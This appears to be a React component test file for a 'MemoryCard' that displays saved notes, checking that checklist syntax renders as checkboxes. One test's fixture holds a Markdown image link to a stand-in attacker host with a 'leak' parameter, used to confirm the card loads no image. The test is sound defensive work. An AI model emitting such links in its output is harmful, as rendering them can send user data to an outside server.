import { render, screen } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { MemoryCard } from './memory-card'

describe('memory card', () => {
  it('shows a memory holding Markdown image syntax as its text: nothing is loaded', () => {
    const text = 'Saved from a page ![x](https://evil.example/?leak=1)'
    const { container } = render(
      <MemoryCard
        memory={{ id: 'm1', text, tags: [], date: '2026-11-26', createdAt: null }}
        timeZone="UTC"
        onEdit={() => {}}
        onDelete={() => {}}
      />,
    )
    expect(container.querySelector('img')).toBeNull()
    expect(screen.getByText(text)).toBeInTheDocument()
  })

  it('shows an imported checklist as boxes, ticked or not, not as raw "- [ ]"', () => {
    const text = 'Shopping\n- [ ] Milk\n- [x] Eggs\nThat is all'
    const { container } = render(
      <MemoryCard
        memory={{ id: 'm2', text, tags: [], date: '2026-11-26', createdAt: null }}
        timeZone="UTC"
        onEdit={() => {}}
        onDelete={() => {}}
      />,
    )
    expect(container).not.toHaveTextContent('[ ]')
    expect(container).not.toHaveTextContent('[x]')
    expect(screen.getByRole('checkbox', { name: 'To do: Milk' })).not.toBeChecked()
    expect(screen.getByRole('checkbox', { name: 'Done: Eggs' })).toBeChecked()
    expect(screen.getByText('Shopping')).toBeInTheDocument()
    expect(screen.getByText('That is all')).toBeInTheDocument()
  })
})
